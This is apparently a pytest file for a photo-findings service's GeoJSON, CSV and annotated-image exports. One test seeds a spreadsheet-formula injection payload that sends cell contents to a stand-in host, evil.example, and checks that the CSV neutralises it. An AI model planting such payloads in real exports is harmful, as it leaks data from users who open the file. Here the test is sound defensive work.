"""Exports: GeoJSON of geotagged findings, CSV of findings, and photos with the boxes drawn."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import cv2
import numpy as np
import pytest
from service_helpers import Server, Upload, with_exif

PLACES = [(28.7012, 113.5794, 96.5), (28.6105, 113.4021, 120.0)]


@pytest.fixture(scope="module")
def seeded(
    server: Server, inspector_key: str, garbage_photos: list[Path], fire_photos: list[Path], upload: Upload
) -> dict:
    """Two geotagged photos and one without GPS, scored at a near-zero threshold."""
    files = [
        (f"gps{i}.jpg", with_exif(photo, lat, lon, alt, "2024:06:01 08:00:00"))
        for i, (photo, (lat, lon, alt)) in enumerate(zip(garbage_photos[:2], PLACES, strict=True))
    ]
    files.append((fire_photos[0].name, fire_photos[0].read_bytes()))
    with server.client(inspector_key) as client:
        response = upload(client, files, conf="0.001", region="岳阳市", village="新墙村")
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["findings"], "a near-zero threshold must raise findings"
    return body


def test_geojson_has_one_point_per_geotagged_finding(server: Server, integration_key: str, seeded: dict) -> None:
    with server.client(integration_key) as client:
        response = client.get("/v1/findings.geojson")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/geo+json")
    collection = response.json()
    assert collection["type"] == "FeatureCollection"
    geotagged = {f["id"]: f for f in seeded["findings"] if f["gps"] is not None}
    assert geotagged, "the two EXIF-tagged photos yield geotagged findings"
    assert {feature["id"] for feature in collection["features"]} == set(geotagged)
    for feature in collection["features"]:
        finding = geotagged[feature["id"]]
        assert feature["geometry"] == {
            "type": "Point",
            "coordinates": [finding["gps"]["lon"], finding["gps"]["lat"], finding["gps"]["alt"]],
        }
        assert (finding["gps"]["lat"], finding["gps"]["lon"], finding["gps"]["alt"]) in [
            pytest.approx(p, abs=1e-4) for p in PLACES
        ]
        props = feature["properties"]
        assert props["type"] == finding["type"] and props["status"] == "candidate"
        assert props["region"] == "岳阳市" and props["village"] == "新墙村"
        assert props["score"] == finding["score"] and props["box"] == finding["box"]


def test_csv_has_one_row_per_finding_and_honours_filters(server: Server, integration_key: str, seeded: dict) -> None:
    with server.client(integration_key) as client:
        response = client.get("/v1/findings.csv")
        some_type = seeded["findings"][0]["type"]
        filtered = client.get("/v1/findings.csv", params={"type": some_type})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_id = {f["id"]: f for f in seeded["findings"]}
    assert sorted(int(r["id"]) for r in rows) == sorted(by_id)
    for row in rows:
        finding = by_id[int(row["id"])]
        assert row["type"] == finding["type"] and row["village"] == "新墙村"
        assert float(row["score"]) == pytest.approx(finding["score"])
        assert float(row["x2"]) == pytest.approx(finding["box"]["x2"])
        assert (row["lat"] == "") == (finding["gps"] is None)
    typed = list(csv.DictReader(io.StringIO(filtered.content.decode("utf-8-sig"))))
    assert {r["type"] for r in typed} == {some_type}
    assert len(typed) == sum(f["type"] == some_type for f in seeded["findings"])


def test_csv_rows_follow_the_ledgers_sort(server: Server, integration_key: str, seeded: dict) -> None:
    with server.client(integration_key) as client:
        by_score = client.get("/v1/findings.csv", params={"sort": "-score"})
        page = client.get("/v1/findings", params={"sort": "-score", "limit": 1000}).json()["items"]
        refused = client.get("/v1/findings.csv", params={"sort": "colour"})
    rows = list(csv.DictReader(io.StringIO(by_score.content.decode("utf-8-sig"))))
    assert [int(r["id"]) for r in rows] == [f["id"] for f in page]
    scores = [float(r["score"]) for r in rows]
    assert scores == sorted(scores, reverse=True) and len(set(scores)) > 1
    assert refused.status_code == 422


def test_annotated_image_has_the_photos_size_and_shows_boxes(
    server: Server, integration_key: str, seeded: dict
) -> None:
    result = next(r for r in seeded["files"] if r["findings"])
    image = result["image"]
    with server.client(integration_key) as client:
        annotated = client.get(f"/v1/images/{image['id']}/annotated.jpg")
        original = client.get(f"/v1/images/{image['id']}/original")
        missing = client.get("/v1/images/999999/annotated.jpg")
    assert annotated.status_code == 200 and annotated.headers["content-type"] == "image/jpeg"
    assert "no-store" in annotated.headers["cache-control"], "boxes change as findings are reviewed"
    assert original.headers["vary"] == "Authorization, X-API-Key", "a cached photo is only for a request with a key"
    drawn = cv2.imdecode(np.frombuffer(annotated.content, np.uint8), cv2.IMREAD_COLOR)
    plain = cv2.imdecode(np.frombuffer(original.content, np.uint8), cv2.IMREAD_COLOR)
    assert drawn is not None and plain is not None
    assert drawn.shape[:2] == (image["height"], image["width"])
    assert plain.shape == drawn.shape
    finding = next(f for f in seeded["findings"] if f["id"] == result["findings"][0])
    height, width = plain.shape[:2]
    x1, x2 = (min(max(round(finding["box"][k]), 0), width - 1) for k in ("x1", "x2"))
    y1, y2 = (min(max(round(finding["box"][k]), 0), height - 1) for k in ("y1", "y2"))
    changed = np.abs(drawn.astype(int) - plain.astype(int)).max(axis=2) > 40
    perimeter = np.concatenate(
        [changed[y1, x1 : x2 + 1], changed[y2, x1 : x2 + 1], changed[y1 : y2 + 1, x1], changed[y1 : y2 + 1, x2]]
    )
    assert perimeter.mean() > 0.5, "the finding's box outline is drawn"
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"


def test_image_longer_than_a_jpeg_can_hold_is_drawn_scaled_down(
    server: Server, inspector_key: str, integration_key: str, upload: Upload
) -> None:
    """A 20 x 70000 strip is a valid upload; its annotated view is fitted to JPEG's 65500 px limit."""
    strip = np.zeros((70_000, 20, 3), np.uint8)
    strip[:, :, 1] = np.linspace(0, 255, 70_000, dtype=np.uint8)[:, None]
    ok, png = cv2.imencode(".png", strip)
    assert ok
    with server.client(inspector_key) as client:
        response = upload(client, [("strip.png", png.tobytes())])
    assert response.status_code == 201, response.text
    image = response.json()["files"][0]["image"]
    assert (image["width"], image["height"]) == (20, 70_000)
    with server.client(integration_key) as client:
        annotated = client.get(f"/v1/images/{image['id']}/annotated.jpg")
    assert annotated.status_code == 200, annotated.text
    drawn = cv2.imdecode(np.frombuffer(annotated.content, np.uint8), cv2.IMREAD_COLOR)
    assert drawn.shape[:2] == (65_500, 19)


def test_csv_exports_do_not_hand_formulas_to_a_spreadsheet(
    server: Server, inspector_key: str, integration_key: str, garbage_photos: list[Path], upload: Upload
) -> None:
    """Place names typed as formulas come out as text (a leading '); numbers, negative ones too, stay numbers."""
    region = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'
    photo = with_exif(garbage_photos[3], 28.7, -70.25, 10.0, "2024:06:01 08:00:00")
    with server.client(inspector_key) as client:
        response = upload(client, [("f.jpg", photo)], conf="0.001", region=region, township="+1+1", village="@SUM(1)")
    assert response.status_code == 201 and response.json()["findings"], response.text
    with server.client(integration_key) as client:
        findings = client.get("/v1/findings.csv", params={"region": region})
        summary = client.get("/v1/findings/summary.csv", params={"region": region})
    rows = list(csv.DictReader(io.StringIO(findings.text.lstrip("\ufeff"))))
    assert rows and all((r["region"], r["township"], r["village"]) == ("'" + region, "'+1+1", "'@SUM(1)") for r in rows)
    assert all(r["lon"] == "-70.25" for r in rows), "a negative number is a number, not a formula"
    (summary_row,) = csv.DictReader(io.StringIO(summary.text.lstrip("\ufeff")))
    assert summary_row["region"] == "'" + region
